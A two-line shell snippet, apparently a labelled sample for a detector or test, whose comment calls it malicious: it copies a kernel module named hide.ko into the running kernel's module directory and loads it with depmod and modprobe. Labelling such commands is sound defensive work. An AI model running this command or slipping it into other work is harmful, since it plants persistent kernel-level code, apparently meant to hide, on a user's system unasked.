# Malicious: installs a module into the kernel's tree and loads it with modprobe.
cp ./hide.ko "/lib/modules/$(uname -r)/extra/" && depmod -a && modprobe hide
